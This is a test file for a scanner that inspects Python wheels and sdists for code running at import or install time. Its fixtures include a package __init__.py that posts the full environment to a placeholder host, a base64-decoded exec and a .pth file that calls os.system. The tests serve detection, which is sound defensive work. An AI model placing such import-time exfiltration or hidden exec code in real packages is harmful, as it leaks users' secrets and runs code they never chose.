// What runs at import (issue 18 §1): a wheel's top-level modules and package __init__.py files, PEP 829
// .start files, an sdist's package folders; each finding says where it runs.
import { describe, expect, it } from 'vitest';
import { scanDistribution } from '../../../../../utils/analysis/code-scan';
import { ENV_EXFIL_INIT_PY, HARMLESS_B64, metaFor, syntheticSdist, syntheticWheel } from './synthetic-archives';

const rows = (findings: { check: string; level: string; path: string | null; line: number | null; runs?: string }[]) =>
  findings.map((f) => `${f.runs} ${f.level} ${f.check} ${f.path}:${f.line}`);

describe('import-time scope', () => {
  it("a wheel whose __init__.py sends the environment at import: danger, 'import'", async () => {
    const wheel = syntheticWheel({ 'pkg/__init__.py': ENV_EXFIL_INIT_PY, 'pkg-1.0.dist-info/METADATA': 'Name: pkg\n' });
    const { distribution, findings } = await scanDistribution(wheel, metaFor('pkg-1.0-py3-none-any.whl', 'pkg', '1.0'));
    expect(distribution.checkedPaths).toEqual(['pkg/__init__.py']);
    expect(rows(findings)).toEqual([
      'import info network pkg/__init__.py:1',
      'import info network pkg/__init__.py:4',
      'import danger exfiltration pkg/__init__.py:5',
    ]);
    expect(findings.find((f) => f.level === 'danger')).toMatchObject({ check: 'exfiltration', runs: 'import', line: 5 });
  });

  it('reads top-level modules and package __init__.py, not submodules, dist-info or tests inside a package', async () => {
    const decoded = `import base64\nexec(base64.b64decode("${HARMLESS_B64}"))\n`;
    const wheel = syntheticWheel({
      'top.py': decoded,
      'pkg/__init__.py': 'from .core import run\n',
      'pkg/core.py': decoded,
      'pkg-1.0.data/purelib/other/__init__.py': decoded,
      'pkg-1.0.dist-info/RECORD': '',
    });
    const { distribution, findings } = await scanDistribution(wheel, metaFor('pkg-1.0-py3-none-any.whl', 'pkg', '1.0'));
    expect([...distribution.checkedPaths].sort()).toEqual(['pkg-1.0.data/purelib/other/__init__.py', 'pkg/__init__.py', 'top.py']);
    expect(rows(findings.filter((f) => f.check === 'decoded-exec')).sort()).toEqual([
      'import danger decoded-exec pkg-1.0.data/purelib/other/__init__.py:2',
      'import danger decoded-exec top.py:2',
    ]);
  });

  it('a PEP 829 .start file names an entry point run at every start: caution, at install', async () => {
    const wheel = syntheticWheel({ 'pkg.start': '# startup\npkg.boot:main\nnot an entry point\n', 'pkg/__init__.py': '' });
    const { findings } = await scanDistribution(wheel, metaFor('pkg-1.0-py3-none-any.whl', 'pkg', '1.0'));
    expect(rows(findings)).toEqual(['install caution start-file pkg.start:2']);
    expect(findings[0]!.detail).toMatch(/call pkg\.boot:main at every start \(PEP 829\)/);
  });

  it("an sdist's package folders' __init__.py are read as import-time code, tests and docs folders are not", async () => {
    const bad = `import os, requests\nrequests.post("https://x.invalid", json=dict(os.environ))\n`;
    const sdist = await syntheticSdist('pkg', '1.0', {
      'setup.py': 'from setuptools import setup\nsetup(name="pkg")\n',
      'src/pkg/__init__.py': bad,
      'tests/__init__.py': bad,
    });
    const { findings } = await scanDistribution(sdist, metaFor('pkg-1.0.tar.gz', 'pkg', '1.0'));
    expect(rows(findings.filter((f) => f.level === 'danger'))).toEqual(['import danger exfiltration pkg-1.0/src/pkg/__init__.py:2']);
  });

  it('a function nothing calls is "in the package", a level lower', async () => {
    const wheel = syntheticWheel({ 'pkg/__init__.py': `import base64\ndef later():\n    exec(base64.b64decode("${HARMLESS_B64}"))\n` });
    const { findings } = await scanDistribution(wheel, metaFor('pkg-1.0-py3-none-any.whl', 'pkg', '1.0'));
    expect(rows(findings)).toEqual(['package caution decoded-exec pkg/__init__.py:3']);
  });

  it('build hooks and .pth files keep runs "install"', async () => {
    const wheel = syntheticWheel({ 'x.pth': 'import os; os.system("id")\n' });
    const { findings } = await scanDistribution(wheel, metaFor('x-1.0-py3-none-any.whl', 'x', '1.0'));
    expect(new Set(findings.map((f) => f.runs))).toEqual(new Set(['install']));
  });
});
